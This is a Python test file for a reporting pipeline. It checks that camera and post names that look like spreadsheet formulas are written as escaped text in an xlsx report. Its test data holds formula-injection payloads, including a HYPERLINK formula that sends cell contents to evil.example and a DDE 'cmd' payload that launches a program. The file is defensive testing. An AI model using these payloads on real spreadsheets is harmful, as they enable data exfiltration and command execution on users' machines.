"""report.xlsx never holds a live formula: names set in a config or by a user stay text."""

from __future__ import annotations

from openpyxl import load_workbook

from pipeline.events.store import EventStore
from pipeline.reports.build import build_report
from pipeline.reports.xlsx import safe_text
from pipeline.settings import parse_config
from tests.reports import seed

EVIL = {"1号窗口": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "张三": "@SUM(1+1)*cmd|' /C calc'!A0",
        "2号窗口": "+1+1", "李四": "-2+3", "王五": "\t=1+1"}


def test_safe_text():
    assert safe_text("=1+1") == "'=1+1" and safe_text("@x") == "'@x" and safe_text("-1") == "'-1"
    assert safe_text("1号窗口") == "1号窗口" and safe_text("a=b") == "a=b"


def test_names_that_look_like_formulas_stay_text(tmp_path):
    yaml_text = seed.CONFIG_YAML
    for name, evil in EVIL.items():
        yaml_text = yaml_text.replace(f"name: {name}", "name: " + _yaml_str(evil))
    cfg = parse_config(yaml_text)
    assert cfg.cameras[0].posts[0].name == EVIL["1号窗口"]
    data = tmp_path / "data"
    seed.seed(data).close()
    files = build_report(data, seed.DAY, tmp_path / "out", cfg=cfg, pdf=False)
    wb = load_workbook(files.xlsx)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for evil in EVIL.values():
        assert "'" + evil in texts, evil  # written, as text
    EventStore.for_dir(data).close()


def _yaml_str(s: str) -> str:
    import json

    return json.dumps(s, ensure_ascii=False)  # a JSON string is a YAML double-quoted scalar
